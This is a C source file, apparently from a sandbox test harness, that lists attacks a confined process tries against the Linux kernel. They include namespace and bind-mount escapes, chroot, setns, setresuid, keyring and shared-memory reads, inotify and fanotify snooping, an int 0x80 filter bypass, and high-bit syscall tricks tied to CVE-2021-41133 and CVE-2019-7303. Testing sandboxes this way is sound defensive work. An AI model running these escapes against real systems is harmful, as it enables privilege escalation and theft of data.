/* Asks the kernel for what lies outside of every path: keys, queues, shared memory, watches, mounts,
   namespaces, old and foreign entries. */

#include "attack.h"
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <mqueue.h>
#include <poll.h>
#include <sys/fanotify.h>
#include <sys/fsuid.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>

static void leave_shared_memory(void) {
    shmget(number("key"), 4096, IPC_CREAT | 0600);
}

static void leave_a_queue(void) {
    msgget(number("key"), IPC_CREAT | 0600);
}

static void send_to_a_queue(void) {
    struct { long kind; char bytes[8]; } message = {1, "owned"};
    msgsnd(msgget(number("key"), 0), &message, sizeof message.bytes, IPC_NOWAIT);
}

static void leave_semaphores(void) {
    semget(number("key"), 1, IPC_CREAT | 0600);
}

static void leave_a_posix_queue(void) {
    mq_open(text("/%s-%s", told("id"), name), O_CREAT | O_RDWR, 0600, NULL);
}

static void leave_a_key(void) {
    syscall(SYS_add_key, "user", text("%s-%s", told("id"), name), "x", 1, KEY_SPEC_USER_KEYRING);
}

static void read_shared_memory(void) {
    char *bytes = shmat(shmget(number("key"), 0, 0), NULL, SHM_RDONLY);
    if (bytes != (char *)-1)
        loot(bytes, strlen(bytes));
}

static void read_key(void) {
    char value[256];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user",
                       text("%s-%s", told("id"), name), 0);
    long length = syscall(SYS_keyctl, KEYCTL_READ, key, value, sizeof value);
    if (length > 0)
        loot(value, (size_t)length);
}

/* A bystander makes and removes a file of a secret name all the time. */
static void watch_by_inotify(void) {
    char bytes[4096];
    int watch = inotify_init1(IN_NONBLOCK);
    struct pollfd ready = {watch, POLLIN, 0};
    if (inotify_add_watch(watch, outside("directory"), IN_CREATE) < 0)
        return;
    poll(&ready, 1, 10000);
    ssize_t length = read(watch, bytes, sizeof bytes);
    if (length > 0)
        loot(bytes, (size_t)length);
}

static void watch_by_fanotify(void) {
    char bytes[4096];
    int watch = (int)syscall(SYS_fanotify_init, FAN_CLASS_NOTIF | FAN_REPORT_DFID_NAME | FAN_NONBLOCK, O_RDONLY);
    struct pollfd ready = {watch, POLLIN, 0};
    if (syscall(SYS_fanotify_mark, watch, FAN_MARK_ADD, (uint64_t)FAN_CREATE, AT_FDCWD, outside("directory")))
        return;
    poll(&ready, 1, 10000);
    ssize_t length = read(watch, bytes, sizeof bytes);
    if (length > 0)
        loot(bytes, (size_t)length);
}

/* Has the file appear in OUT_DIR, where it may be written. */
static void bind_and_write(void) {
    mkdir(out("mounted"), 0755);
    mount(outside(""), out("mounted"), NULL, MS_BIND, NULL);
    mark(open(out("mounted/file"), O_WRONLY));
}

static void mount_in_a_namespace(void) {
    unshare(CLONE_NEWNS);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    bind_and_write();
}

static void mount_in_a_user_namespace(void) {
    unshare(CLONE_NEWUSER | CLONE_NEWNS);
    bind_and_write();
}

static void mount_in_a_cloned_namespace(void) {
    if (syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL, NULL, NULL, 0) == 0) {
        bind_and_write();
        _exit(0);
    }
    wait(NULL);
}

/* CVE-2021-41133: calls that are newer than the filter. */
static void mount_by_new_calls(void) {
    unshare(CLONE_NEWUSER | CLONE_NEWNS);
    mkdir(out("mounted"), 0755);
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, outside(""), OPEN_TREE_CLONE);
    syscall(SYS_move_mount, tree, "", AT_FDCWD, out("mounted"), MOVE_MOUNT_F_EMPTY_PATH);
    mark(open(out("mounted/file"), O_WRONLY));
}

static void mount_by_clone3(void) {
    uint64_t arguments[8] = {CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, SIGCHLD, 0, 0, 0};
    long child = syscall(SYS_clone3, arguments, sizeof arguments);
    if (child == 0) {
        bind_and_write();
        _exit(0);
    }
    wait(NULL);
}

static void change_the_root(void) {
    if (chroot(outside("")) == 0)
        mark(open("/file", O_WRONLY));
}

static void change_the_root_in_a_namespace(void) {
    unshare(CLONE_NEWUSER);
    change_the_root();
}

/* Into the namespaces of who called it, if one's own is another. */
static void enter_the_parents_namespace(void) {
    int spaces = open(text("/proc/%d/ns/mnt", getppid()), O_RDONLY);
    if (setns(spaces, CLONE_NEWNS) == 0)
        mark(open(outside("file"), O_WRONLY));
}

/* Who may read it: root can become anybody. */
static void become_another_user(void) {
    int ends[2];
    pipe(ends);
    if (fork() == 0) {
        if (setresuid(12345, 12345, 12345) == 0) {
            char bytes[256];
            ssize_t length = read(open("closed", O_RDONLY), bytes, sizeof bytes);
            write(ends[1], bytes, length > 0 ? (size_t)length : 0);
        }
        _exit(0);
    }
    close(ends[1]);
    loot_from(ends[0]);
}

/* It may be read by the rules, but belongs to somebody else: only capabilities open it. */
static void overrule_modes(void) {
    loot_file("closed");
}

/* The program in the package has its owner's rights: root's. */
static void run_a_program_of_roots(void) {
    execl("./elevated", "elevated", outside("roots/file"), NULL);
}

#ifdef __x86_64__
/* The entry of 32-bit programs has other numbers: 5 is open(2), 4 is write(2). */
static void call_by_int80(void) {
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(low, outside("file"));
    strcpy(low + 4096, "owned");
    long file, length;
    __asm__ volatile("int $0x80" : "=a"(file) : "a"(5), "b"(low), "c"(O_WRONLY), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    __asm__ volatile("int $0x80" : "=a"(length) : "a"(4), "b"(file), "c"(low + 4096), "d"(5) : "memory", "r8", "r9", "r10", "r11");
}
#else
static void call_by_int80(void) {
    mark(open(outside("file"), O_WRONLY));
}
#endif

/* CVE-2019-7303 in another call: what the kernel drops of a register, a filter must not look at. */
static void call_with_high_bits(void) {
    uint64_t flags = O_WRONLY | 1ULL << 40;
    mark((int)syscall(SYS_openat, (uint64_t)(uint32_t)AT_FDCWD | 1ULL << 40, outside("file"), flags, 0ULL));
}

static void make_a_datagram_pair_with_high_bits(void) {
    int ends[2] = {-1, -1};
    struct sockaddr_un address = {AF_UNIX, "datagram"};
    chdir(outside(""));
    syscall(SYS_socketpair, AF_UNIX | 1ULL << 40, SOCK_DGRAM | 1ULL << 40, 0ULL, ends);
    sendto(ends[0], name, strlen(name), 0, (struct sockaddr *)&address, sizeof address);
}

static void signal_with_high_bits(void) {
    syscall(SYS_kill, (uint64_t)number("bystander") | 1ULL << 40, (uint64_t)SIGUSR1);
}

static void limit_with_high_bits(void) {
    struct rlimit limit = {64, 64};
    syscall(SYS_prlimit64, (uint64_t)number("bystander") | 1ULL << 40, (uint64_t)RLIMIT_NOFILE, &limit, NULL);
}

const struct attack KERNEL_CALLS[] = {
    ATTACK(leave_shared_memory),
    ATTACK(leave_a_queue),
    ATTACK(send_to_a_queue),
    ATTACK(leave_semaphores),
    ATTACK(leave_a_posix_queue),
    ATTACK(leave_a_key),
    ATTACK(read_shared_memory),
    ATTACK(read_key),
    ATTACK(watch_by_inotify),
    ATTACK(watch_by_fanotify),
    ATTACK(mount_in_a_namespace),
    ATTACK(mount_in_a_user_namespace),
    ATTACK(mount_in_a_cloned_namespace),
    ATTACK(mount_by_new_calls),
    ATTACK(mount_by_clone3),
    ATTACK(change_the_root),
    ATTACK(change_the_root_in_a_namespace),
    ATTACK(enter_the_parents_namespace),
    ATTACK(become_another_user),
    ATTACK(overrule_modes),
    ATTACK(run_a_program_of_roots),
    ATTACK(call_by_int80),
    ATTACK(call_with_high_bits),
    ATTACK(make_a_datagram_pair_with_high_bits),
    ATTACK(signal_with_high_bits),
    ATTACK(limit_with_high_bits),
    {0},
};
